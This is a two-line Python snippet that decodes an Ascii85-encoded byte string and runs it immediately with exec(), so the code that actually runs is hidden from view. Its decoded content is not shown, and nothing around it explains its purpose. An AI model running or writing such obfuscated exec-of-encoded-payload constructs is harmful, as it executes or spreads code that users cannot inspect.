import base64
exec(base64.a85decode(b'Bl.g-Ec`FBEsci,/ou;ZFCf;;,%Gb9C`k<N+D>k=E&oX*AThd(/nK99D/a<&06eUe+EM3?.1-'))
